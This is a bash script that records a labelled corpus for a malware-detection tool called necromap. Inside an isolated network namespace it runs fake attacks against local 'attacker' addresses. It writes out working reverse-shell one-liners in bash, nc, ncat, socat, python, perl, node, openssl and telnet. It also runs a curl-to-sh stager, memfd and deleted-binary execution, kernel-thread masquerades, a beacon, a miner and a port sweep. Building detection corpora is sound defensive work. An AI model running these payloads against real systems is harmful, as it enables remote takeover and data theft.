#!/usr/bin/env bash
# Records assets/corpus/malicious.ndjson.gz: reverse shells by every plumbing,
# in-memory and deleted executables, a dropped listener, kernel-thread
# masquerades, a key sent through a local proxy, a beacon through a local
# relay, a miner and a port sweep, in a network namespace of its own,
# watched by necromap for 75 s at 1 s. Each scenario talks to its own
# "attacker" address 127.66.0.N; the attacker's side (attacker.py, openssl
# s_server) runs in the same namespace and is marked `ignore` in
# malicious.yaml. Labels: assets/corpus/malicious.yaml.
#
#   sudo bash assets/corpus/record-malicious.sh [path/to/necromap]
#
# Needs (Debian): socat, ncat, netcat-openbsd, netcat-traditional, telnet,
# busybox, openssl, perl, nodejs, python3, util-linux. Everything is
# stopped and the namespace removed at the end.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
necromap=$(realpath "${1:-$here/../../target/debug/necromap}")
out=$here/malicious.ndjson.gz
ns=necromap-malicious
work=/srv/necromap-corpus-malicious
[ "$(id -u)" = 0 ] || { echo "run as root: it creates a network namespace" >&2; exit 1; }

pids=()
cleanup() {
  for p in "${pids[@]}"; do kill -9 -- "-$p" 2>/dev/null || kill -9 "$p" 2>/dev/null || true; done
  ip netns pids $ns 2>/dev/null | xargs -r kill -9 2>/dev/null || true
  ip netns del $ns 2>/dev/null || true
  rm -rf $work /dev/shm/.x11-cache /tmp/.ICE-unix-cache
}
trap cleanup EXIT
in_ns() { ip netns exec $ns "$@"; }
# Each scenario in its own session and process group, from / with no stdio.
bg() { setsid ip netns exec $ns "$@" </dev/null >/dev/null 2>&1 & pids+=($!); }

rm -rf $work; mkdir -p $work/home/.ssh; cd /
ip netns add $ns
in_ns ip link set lo up

# The attacker: listens on every address:port below, holds each connection;
# port 8080 answers one HTTP request with a script that never ends.
cat > $work/attacker.py <<'PY'
import socket, sys, threading, time
def serve(addr, port):
    l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind((addr, port)); l.listen(64); held = []
    while True:
        c, _ = l.accept(); held.append(c)
        if port == 8080:
            c.recv(4096); c.sendall(b"HTTP/1.0 200 OK\r\n\r\nsleep 600\n")
for spec in sys.argv[1:]:
    a, p = spec.rsplit(':', 1)
    threading.Thread(target=serve, args=(a, int(p)), daemon=True).start()
time.sleep(3600)
PY
targets=(127.66.0.1:4444 127.66.0.2:4444 127.66.0.3:4444 127.66.0.4:4444 127.66.0.5:4444 127.66.0.6:4444
         127.66.0.8:4444 127.66.0.8:4445 127.66.0.9:4444 127.66.0.10:4444 127.66.0.11:4444 127.66.0.12:4444
         127.66.0.13:8080 127.66.0.14:4444 127.66.0.15:4444 127.66.0.17:4444 127.66.0.18:4444 127.66.0.18:1080
         127.66.0.20:443 127.66.0.21:3333)
for p in $(seq 2000 2029); do targets+=(127.66.0.22:$p); done
bg python3 $work/attacker.py "${targets[@]}"
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=c2 -keyout $work/c2.key -out $work/c2.crt 2>/dev/null
bg sh -c "sleep 3600 | openssl s_server -quiet -accept 127.66.0.7:4443 -cert $work/c2.crt -key $work/c2.key"
sleep 2

# 1. bash /dev/tcp one-liner: the shell's stdio is the socket.
bg bash -c 'bash -i >& /dev/tcp/127.66.0.1/4444 0>&1'
# 2. nc -e (netcat-traditional): nc becomes the shell.
bg nc.traditional -e /bin/sh 127.66.0.2 4444
# 3. ncat --sh-exec: the shell on pipes to ncat.
bg ncat --sh-exec /bin/bash 127.66.0.3 4444
# 4. socat with a pty, upper-case EXEC.
bg socat TCP:127.66.0.4:4444 "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"
# 5. socat with a socketpair.
bg socat TCP:127.66.0.5:4444 EXEC:/bin/bash
# 6. A named pipe and nc, run from a script file.
cat > $work/update.sh <<SH
rm -f $work/f; mkfifo $work/f; cat $work/f | /bin/sh -i 2>&1 | nc 127.66.0.6 4444 > $work/f
SH
bg sh $work/update.sh
# 7. A named pipe and openssl s_client (TLS to the attacker).
cat > $work/tls.sh <<SH
rm -f $work/s; mkfifo $work/s; /bin/sh -i < $work/s 2>&1 | openssl s_client -quiet -connect 127.66.0.7:4443 > $work/s 2>/dev/null
SH
bg sh $work/tls.sh
# 8. Two telnets around a shell.
cat > $work/telnet.sh <<SH
(sleep 3600 | telnet 127.66.0.8 4444 2>/dev/null) | /bin/bash 2>&1 | telnet 127.66.0.8 4445 >/dev/null 2>&1
SH
bg sh $work/telnet.sh
# 9. python: socket on stdio, then a pty for the shell.
bg python3 -c "import socket,os,pty;s=socket.socket();s.connect(('127.66.0.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
# 10. perl: socket on stdio, then exec of a shell.
bg perl -e 'use Socket;$i="127.66.0.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
# 11. node: a shell on pipes to node's socket.
bg node -e 'const n=require("net"),cp=require("child_process");const sh=cp.spawn("/bin/sh",[]);const c=n.connect(4444,"127.66.0.11",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'
# 12. busybox nc -e.
bg busybox nc 127.66.0.12 4444 -e /bin/sh
# 13. A stager piped into sh that keeps running (input only).
bg sh -c 'curl -s http://127.66.0.13:8080/stage.sh | sh'
# 14. A program run from memory (memfd).
bg python3 -c "import os;fd=os.memfd_create('kx');os.write(fd,open('/usr/bin/ncat','rb').read());os.execv(f'/proc/self/fd/{fd}',['kx','127.66.0.14','4444'])"
# 15. A program whose file was deleted after it started.
mkdir -p /tmp/.ICE-unix-cache; cp /usr/bin/ncat /tmp/.ICE-unix-cache/dbus-daemon
bg /tmp/.ICE-unix-cache/dbus-daemon 127.66.0.15 4444
# 16. A listener dropped in /dev/shm under a hidden directory.
mkdir -p /dev/shm/.x11-cache; cp /usr/bin/ncat /dev/shm/.x11-cache/httpd
bg /dev/shm/.x11-cache/httpd -lk 127.66.0.16 31337
# 17. Kernel-thread names: by argv[0], and by comm.
bg bash -c "exec -a '[kworker/0:1]' ncat 127.66.0.17 4444"
bg python3 -c "import ctypes,socket,time;ctypes.CDLL(None).prctl(15,b'[kthreadd/2]',0,0,0);s=socket.create_connection(('127.66.0.17',4444));time.sleep(3600)"
# 18. A private key held open next to a connection to a local SOCKS proxy.
echo "-----BEGIN OPENSSH PRIVATE KEY----- (not a real key)" > $work/home/.ssh/id_rsa
bg python3 -c "import socket,time;k=open('$work/home/.ssh/id_rsa');s=socket.create_connection(('127.66.0.18',1080));time.sleep(3600)"
# 19. A beacon through a local relay (socat) to the attacker: a check-in
#     every 5 s or so, each held 2 s (long enough for a 1 s poll to see it).
bg socat TCP-LISTEN:8443,bind=127.66.0.19,reuseaddr,fork TCP:127.66.0.20:443
sleep 0.5
bg bash -c 'while :; do exec 3<>/dev/tcp/127.66.0.19/8443; sleep 2; exec 3>&-; sleep 2.$((RANDOM % 9)); done'
# 20. A miner connected to its pool.
bg bash -c 'exec 3<>/dev/tcp/127.66.0.21/3333; sleep 3600; true' xmrig --url stratum+tcp://127.66.0.21:3333 --user wallet
# 21. A sweep of thirty ports of one host, each held for a while.
bg bash -c 'for p in $(seq 2000 2029); do exec {fd}<>/dev/tcp/127.66.0.22/$p; done; sleep 3600; true'

sleep 3
rm -f /tmp/.ICE-unix-cache/dbus-daemon
echo "recording 75 s to $out" >&2
in_ns "$necromap" record --out "$out" --duration 75s --interval 1s
